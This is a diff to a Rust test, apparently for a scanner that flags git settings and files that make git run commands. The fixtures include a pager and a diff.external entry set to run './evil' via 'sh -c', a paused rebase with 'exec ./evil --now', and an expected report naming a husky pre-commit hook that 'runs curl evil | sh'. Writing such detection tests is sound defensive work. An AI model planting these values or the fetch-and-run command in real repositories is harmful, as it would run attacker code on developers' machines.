@@ -32,7 +32,8 @@ fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
     std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
     // A comment ending in a backslash continues nothing (git reads `[pager]` as a header);
     // a paused rebase holds a command for `--continue`.
-    let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n";
+    let comment = "[remote \"origin\"]\n\turl = x ; \\\n[pager]\n\tfetch = ./evil\n\
+        [diff]\n\texternal = \"sh -c \\\"evil q\\\"\"\n";
     std::fs::write(git.join("config.worktree"), comment).expect("config.worktree");
     std::fs::create_dir_all(git.join("rebase-merge")).expect("rebase");
     let todo = "pick 1234 one\nbreak\nexec ./evil --now\n";
@@ -44,6 +45,7 @@ fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
         [
             format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
             format!("{app}/.git/config.worktree sets pager.fetch = ./evil"),
+            format!("{app}/.git/config.worktree sets diff.external = sh -c \"evil q\""),
             format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
             format!("{app}/.git/rebase-merge/git-rebase-todo holds a paused rebase that runs ./evil --now on `git rebase --continue`"),
             format!("{app}/.husky/pre-commit runs curl evil | sh"),
